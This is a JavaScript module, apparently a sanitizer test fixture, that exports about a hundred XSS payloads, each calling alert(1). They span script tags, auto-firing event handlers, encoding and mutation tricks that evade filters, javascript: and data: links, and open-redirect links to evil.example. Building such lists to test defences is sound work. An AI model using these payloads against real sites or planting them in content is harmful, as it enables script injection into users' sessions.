/** One hundred known ways to run a script by a text. Each of them calls `alert`. */
const RUN = 'alert(1)';

/** Scripts, and what stands for them. */
const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script type="text/javascript">${RUN}</script >`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script/x>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `<script>\u2028${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script xlink:href="data:,${RUN}"></script></svg>`,
];

/** Elements whose events run without a click, or with one. */
const EVENTS = [
  ['img src=x', 'onerror'],
  ['img src=/none.png', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg/', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe srcdoc=x', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['source src=x', 'onerror'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['p style="animation:x 1s"', 'onanimationstart'],
  ['a href=#x tabindex=1', 'onfocus'],
  ['div contenteditable autofocus', 'onfocus'],
  ['p', 'onmouseover'],
  ['p', 'onclick'],
  ['li', 'onpointerenter'],
  ['h2', 'onauxclick'],
  ['a href="/"', 'onclick'],
  ['span class="ql-align-center"', 'onmouseenter'],
].map(([element, event]) => `<${element} ${event}=${RUN}>x`);

/** The same event, written in ways that filters miss. */
const WRITTEN = [
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror='${RUN}'>`,
  `<img src=x onerror=\`${RUN}\`>`,
  `<IMG SRC=x OnErRoR=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x\tonerror\t=\t${RUN}>`,
  `<img src=x\nonerror\n=\n${RUN}>`,
  `<img src=x onerror=&#97;lert(1)>`,
  `<img src=x onerror=&#x61;lert(1)>`,
  `<img src=x onerror=\\u0061lert(1)>`,
  `<img """><img src=x onerror=${RUN}>">`,
  `<img src="x" title="><img src=y onerror=${RUN}>">`,
  `<p title="--><img src=x onerror=${RUN}>">x</p>`,
  `<a title="<img src=x onerror=${RUN}>">x</a>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<select><template><img src=x onerror=${RUN}></template></select>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${RUN}>`,
  `<ol><li data-list="x" onclick=${RUN} data-list="y">x</li></ol>`,
];

/** Links. They are also used as the addresses of buttons. */
export const BAD_LINKS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `//evil.example/${RUN}`,
  `\\\\evil.example\\${RUN}`,
  `/\\evil.example/${RUN}`,
  `feed:javascript:${RUN}`,
];

const LINKS = BAD_LINKS.map((link) => `<a href="${link}">x</a>`);

/** Other elements with addresses. */
const ADDRESSES = [
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<object data="javascript:${RUN}"></object>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><animate href=#a attributeName=href values="javascript:${RUN}"/><a id=a>x</a></svg>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<p style="background:url(javascript:${RUN})">x</p>`,
];

export const PAYLOADS = [...SCRIPTS, ...EVENTS, ...WRITTEN, ...LINKS, ...ADDRESSES];
